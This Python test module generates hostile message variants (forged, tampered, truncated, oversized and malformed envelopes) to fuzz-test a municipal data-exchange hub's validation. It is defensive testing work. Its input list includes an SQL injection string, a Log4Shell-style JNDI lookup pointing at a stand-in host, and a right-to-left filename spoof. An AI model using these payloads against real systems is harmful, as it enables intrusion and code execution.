"""Hostile traffic for the fuzz suite: families of bad messages made from valid ones.

Each family takes a valid signed envelope and a seeded `random.Random` and returns the
bytes an attacker (or a broken sender) would publish, with the routing key it would use and
the reason codes the hub may answer with. Families are hand-made so that every entry point
of triage is reached in one run: the parser's limits, canonical form, the signature, the
contract, the claims, the policy, the routing key and the journal's dedupe.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from contracts.canonical import CanonicalError, canonical_bytes, format_datetime
from contracts.signing import Signer
from tests.traffic import kind_of

__all__ = [
    "FAMILIES",
    "MAX_BYTES",
    "WEIGHTS",
    "Hostile",
    "Keys",
    "Template",
    "generate",
    "leaf_paths",
    "with_value_at",
]

MAX_BYTES = 65_536
"""The hub's size limit in the fuzz runs: the oversized family writes 70 KB."""

_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
# Strings a sender in a hurry, or an attacker, puts where a value should be.
_TRICKS = (
    "\u0000",
    "\ud800",  # escaped on the wire as \ud800: a lone surrogate
    "\u202e" + "gnp.exe",
    "\u200b",
    "\ufeff",
    "１２３４５６７８９０１８",  # full-width digits
    "A\u030a",  # decomposed Å
    "\U0001f489",
    "'; DROP TABLE journal; --",
    "${jndi:ldap://x/a}",
    "\\",
    '"',
    "\n\r\t",
    "123456789018",  # a My Number
    "x" * 300,
)


@dataclass(frozen=True)
class Template:
    """A valid envelope to make hostile copies of: its document (signature removed)."""

    document: dict[str, Any]
    signer: Signer

    def sign(self, document: dict[str, Any], signer: Signer | None = None) -> bytes:
        """`document` signed by `signer` (the template's own by default), as it stands;
        a document with no canonical form (a lone surrogate) goes out escaped, unsigned."""
        signer = signer or self.signer
        document = {k: v for k, v in document.items() if k != "signature"}
        document["key_id"] = signer.key_id
        try:
            document["signature"] = signer.sign_bytes(canonical_bytes(document))
            return canonical_bytes(document)
        except CanonicalError:
            return json.dumps(document, sort_keys=True, separators=(",", ":")).encode()

    def copy(self) -> dict[str, Any]:
        copied: dict[str, Any] = json.loads(json.dumps(self.document))
        return copied


@dataclass(frozen=True)
class Keys:
    """Keys the families sign with besides each template's own."""

    revoked: Signer  # in the ring, revoked
    unknown: Signer  # in no ring
    foreign_system: Signer  # another system's key, same municipality
    other_city: Signer  # the same system's key in the other municipality


@dataclass(frozen=True)
class Hostile:
    """One hostile message: bytes, routing key, and what the hub may answer."""

    family: str
    body: bytes
    routing_key: str
    codes: frozenset[str]


Family = Callable[[Template, Keys, random.Random, datetime], tuple[bytes, str | None]]
_CONTRACT = frozenset({"contract_invalid"})


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path in a JSON value, containers included."""
    if isinstance(value, dict):
        return [prefix] + [p for k, v in value.items() for p in _paths(v, (*prefix, k))]
    if isinstance(value, list):
        return [prefix] + [p for i, v in enumerate(value) for p in _paths(v, (*prefix, i))]
    return [prefix]


def leaf_paths(value: Any) -> list[tuple[Any, ...]]:
    """The path of every value in a JSON value that is not an object or an array."""
    return [p for p in _paths(value) if not isinstance(_value(value, p), dict | list)]


def with_value_at(document: Any, path: tuple[Any, ...], value: object) -> Any:
    """A copy of `document` with the value at `path` replaced by `value`."""
    if not path:
        return value
    head, rest = path[0], path[1:]
    if isinstance(document, dict):
        return {k: with_value_at(v, rest, value) if k == head else v for k, v in document.items()}
    return [with_value_at(v, rest, value) if i == head else v for i, v in enumerate(document)]


def _parent(document: Any, path: tuple[Any, ...]) -> Any:
    for step in path[:-1]:
        document = document[step]
    return document


def _member_path(template: Template, rng: random.Random) -> tuple[Any, ...]:
    # Any member below the top, but not `kind`/`key_id`, which other families cover.
    paths = [p for p in _paths(template.document) if p and p[-1] not in {"key_id"}]
    return rng.choice(paths)


def truncated(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    body = t.sign(t.copy())
    return body[: rng.randrange(0, len(body) - 1)], None


def wrong_type(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    document = t.copy()
    path = _member_path(t, rng)
    current = _parent(document, path)[path[-1]]
    # Never null: a member that may be null (and left out) would make a valid envelope.
    values: tuple[object, ...] = (7, " 7 ", [], {}, True)
    choices = [v for v in values if type(v) is not type(current)]
    _parent(document, path)[path[-1]] = rng.choice(choices)
    return t.sign(document), None


def missing_member(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    # Only members the contract requires: a payload member with a default may be left out.
    document = t.copy()
    required: list[tuple[str, ...]] = [(m,) for m in document if m != "key_id"]
    required += [("sender", m) for m in document["sender"]]
    required += [("recipient", m) for m in document["recipient"]] + [("payload", "kind")]
    path = rng.choice(required)
    del _parent(document, path)[path[-1]]
    return t.sign(document), None


def extra_member(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    document = t.copy()
    objects = [p for p in _paths(document) if isinstance(_value(document, p), dict)]
    target = _value(document, rng.choice(objects))
    target[rng.choice(["extra", "Kind", "id ", "__proto__", rng.choice(_TRICKS)])] = 1
    return t.sign(document), None


def _value(document: Any, path: tuple[Any, ...]) -> Any:
    for step in path:
        document = document[step]
    return document


def duplicate_key(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    body = t.sign(t.copy())
    member = rng.choice([b'"kind":"dose_record",', b'"id":"x",', b'"signature":"A",'])
    return b"{" + member + body[1:], None


# Members whose every value is constrained (a pattern, a code, a set): no trick is valid.
_CONSTRAINED = (
    ("id",),
    ("kind",),
    ("municipality",),
    ("procedure",),
    ("correlation_id",),
    ("sent_at",),
    ("sender", "system"),
    ("sender", "instance"),
    ("recipient", "system"),
    ("recipient", "municipality"),
    ("data_items", 0),
    ("payload", "kind"),
)


def unicode_trick(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    document = t.copy()
    path, trick = rng.choice(_CONSTRAINED), rng.choice(_TRICKS)
    if path == ("sender", "instance") and trick.isalnum():
        trick += "_"  # a My Number is a valid instance name; the underscore is not
    _parent(document, path)[path[-1]] = trick
    return t.sign(document), None


def broken_bytes(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    body = bytearray(t.sign(t.copy()))
    where = rng.randrange(len(body))
    # Invalid UTF-8: a stray continuation byte, an overlong form, an encoded surrogate.
    body[where : where + 1] = rng.choice([b"\x80", b"\xc0\xaf", b"\xed\xa0\x80", b"\xff"])
    return bytes(body), None


def tampered(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    document = t.copy()
    while document["correlation_id"] == t.document["correlation_id"]:
        document["correlation_id"] = document["id"][:-4] + f"{rng.randrange(16**4):04x}"
    signature = t.signer.sign_bytes(canonical_bytes(t.document | {"key_id": t.signer.key_id}))
    return canonical_bytes(document | {"key_id": t.signer.key_id, "signature": signature}), None


def forged(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    document = t.copy() | {"key_id": t.signer.key_id}
    forgery = "".join(rng.choice(_ALPHABET) for _ in range(85)) + rng.choice("AQgw")
    return canonical_bytes(document | {"signature": forgery}), None


def stale(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    shift = rng.choice([-1, 1]) * timedelta(minutes=rng.randrange(20, 600))
    return t.sign(t.copy() | {"sent_at": format_datetime(now + shift)}), None


def signed_by(which: str) -> Family:
    def family(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
        return t.sign(t.copy(), getattr(k, which)), None

    family.__name__ = f"{which}_key"
    return family


def cross_municipality(
    t: Template, k: Keys, rng: random.Random, now: datetime
) -> tuple[bytes, None]:
    document = t.copy()
    other = "082074" if document["municipality"] == "082279" else "082279"
    document["recipient"]["municipality"] = other
    return t.sign(document), None


def not_permitted(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    document = t.copy()
    document["data_items"] = [rng.choice(["covid.secret", "tax.income", "vaccination.history"])]
    document["procedure"] = rng.choice(["B1-93-2", "B2-16-2", "S19-8"])
    return t.sign(document), None


def wrong_routing_key(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, str]:
    key = rng.choice(["dose_record", "approval_attestation", "anything", "provision_permit"])
    return t.sign(t.copy()), key if key != t.document["kind"] else "anything"


def oversized(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    padding = "".join(rng.choice(_ALPHABET) for _ in range(64)) * 1100  # 70 KB
    return t.sign(t.copy() | {"padding": padding}), None


def garbage(t: Template, k: Keys, rng: random.Random, now: datetime) -> tuple[bytes, None]:
    size = rng.randrange(0, 2000)
    return rng.choice(
        [
            bytes(rng.randrange(256) for _ in range(size)),
            b"[" * (size * 30) + b"]" * (size * 30),
            b'{"a":' + b"9" * (size + 20) + b"}",
            b'{"a":"' + b'\\"' * (size * 20),
            b'{"key_id":"' + rng.choice(_TRICKS).encode("utf-8", "surrogatepass") + b'"}',
            b"null",
            b'{"id":1.5e308}',
        ]
    ), None


FAMILIES: dict[str, tuple[Family, frozenset[str]]] = {
    "truncated": (truncated, _CONTRACT),
    "wrong type": (wrong_type, _CONTRACT | {"unknown_key"}),
    "missing member": (missing_member, _CONTRACT | {"bad_signature"}),
    "extra member": (extra_member, _CONTRACT),
    "duplicate JSON key": (duplicate_key, _CONTRACT),
    "unicode trick": (unicode_trick, _CONTRACT | {"unknown_key"}),
    # A continuation byte swapped for another inside a multi-byte character stays UTF-8:
    # another character, so the signature fails instead.
    "invalid UTF-8": (broken_bytes, _CONTRACT | {"bad_signature"}),
    "tampered": (tampered, frozenset({"bad_signature"})),
    "forged signature": (forged, frozenset({"bad_signature"})),
    "stale or future": (stale, frozenset({"stale_message"})),
    "revoked key": (signed_by("revoked"), frozenset({"revoked_key"})),
    "unknown key": (signed_by("unknown"), frozenset({"unknown_key"})),
    "foreign system's key": (signed_by("foreign_system"), frozenset({"key_not_bound"})),
    "other city's key": (signed_by("other_city"), frozenset({"wrong_tenant"})),
    "cross-municipality": (cross_municipality, frozenset({"cross_municipality"})),
    "not permitted": (
        not_permitted,
        frozenset({"not_on_list", "outside_validity", "wrong_direction", "sender_not_listed"}),
    ),
    "wrong routing key": (wrong_routing_key, _CONTRACT),
    "oversized": (oversized, frozenset({"too_large"})),
    "garbage": (garbage, _CONTRACT | {"unknown_key", "too_large"}),
}
# Oversized messages are 70 KB each: a few go a long way.
WEIGHTS = {name: 0.1 if name == "oversized" else 1.0 for name in FAMILIES}


def generate(
    templates: Sequence[Template],
    keys: Callable[[Template], Keys],
    count: int,
    rng: random.Random,
    now: datetime,
) -> list[Hostile]:
    """`count` hostile messages with distinct bytes, families drawn by their weights."""
    names = list(FAMILIES)
    weights = [WEIGHTS[name] for name in names]
    made: dict[bytes, Hostile] = {}
    while len(made) < count:
        name = rng.choices(names, weights)[0]
        family, codes = FAMILIES[name]
        template = rng.choice(templates)
        body, routing_key = family(template, keys(template), rng, now)
        made.setdefault(body, Hostile(name, body, routing_key or kind_of(body), codes))
    return list(made.values())
